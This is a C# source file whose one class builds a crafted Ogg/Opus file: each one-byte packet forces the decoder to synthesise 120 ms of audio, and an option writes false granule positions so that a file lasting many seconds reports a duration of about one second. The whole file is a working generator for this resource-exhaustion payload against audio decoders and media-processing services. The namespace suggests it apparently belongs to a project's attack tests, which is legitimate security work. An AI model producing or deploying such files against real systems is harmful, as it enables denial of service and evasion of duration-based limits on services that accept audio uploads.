using System.Buffers.Binary;

namespace Balcao.Attack;

/// <summary>Ogg/Opus (RFC 3533, 7845) in which each byte of sound is a packet that lasts as long as a packet may.</summary>
internal static class EndlessVoice
{
    /// <summary>Narrow band of 60 ms, stereo, two frames of no bytes each: 120 ms that the decoder must make up (RFC 6716, 3.1).</summary>
    private const byte Packet = (3 << 3) | (1 << 2) | 1;

    private const int SamplesOfPacket = 5760, PacketsOfPage = 255, HeaderLength = 27;

    private const byte First = 2, Last = 4;

    /// <param name="pages">Of 30.6 seconds and 537 bytes each.</param>
    /// <param name="isHonest">False: by the positions written beside the packets it lasts a second.</param>
    public static byte[] Of(int pages, bool isHonest)
    {
        using var file = new MemoryStream();
        file.Write(Page(0, First, 0, [19], Head()));
        file.Write(Page(1, 0, 0, [20], Tags()));
        byte[] lacing = [.. Enumerable.Repeat((byte)1, PacketsOfPage)], packets = [.. Enumerable.Repeat(Packet, PacketsOfPage)];
        for (var i = 1; i <= pages; i++)
            file.Write(Page(1 + i, i == pages ? Last : (byte)0, isHonest ? (long)i * PacketsOfPage * SamplesOfPacket : 48_000, lacing, packets));
        return file.ToArray();
    }

    private static byte[] Head()
    {
        var head = new byte[19];
        "OpusHead"u8.CopyTo(head);
        (head[8], head[9]) = (1, 2); // version, channels
        BinaryPrimitives.WriteUInt16LittleEndian(head.AsSpan(10), 312);
        BinaryPrimitives.WriteUInt32LittleEndian(head.AsSpan(12), 48_000);
        return head;
    }

    private static byte[] Tags()
    {
        var tags = new byte[20];
        "OpusTags"u8.CopyTo(tags);
        tags[8] = 4; // the length of the vendor's name
        "none"u8.CopyTo(tags.AsSpan(12));
        return tags;
    }

    private static byte[] Page(int number, byte kind, long position, byte[] lacing, byte[] body)
    {
        var page = new byte[HeaderLength + lacing.Length + body.Length];
        "OggS"u8.CopyTo(page);
        page[5] = kind;
        BinaryPrimitives.WriteInt64LittleEndian(page.AsSpan(6), position);
        BinaryPrimitives.WriteInt32LittleEndian(page.AsSpan(14), 1); // the stream
        BinaryPrimitives.WriteInt32LittleEndian(page.AsSpan(18), number);
        page[26] = (byte)lacing.Length;
        lacing.CopyTo(page, HeaderLength);
        body.CopyTo(page, HeaderLength + lacing.Length);
        BinaryPrimitives.WriteUInt32LittleEndian(page.AsSpan(22), Checksum(page));
        return page;
    }

    /// <summary>Ogg's own: the polynomial is that of PNG, neither reflected nor inverted.</summary>
    private static uint Checksum(byte[] page)
    {
        var crc = 0u;
        foreach (var b in page)
        {
            crc ^= (uint)b << 24;
            for (var bit = 0; bit < 8; bit++) crc = (crc & 0x8000_0000) != 0 ? (crc << 1) ^ 0x04C1_1DB7 : crc << 1;
        }
        return crc;
    }
}
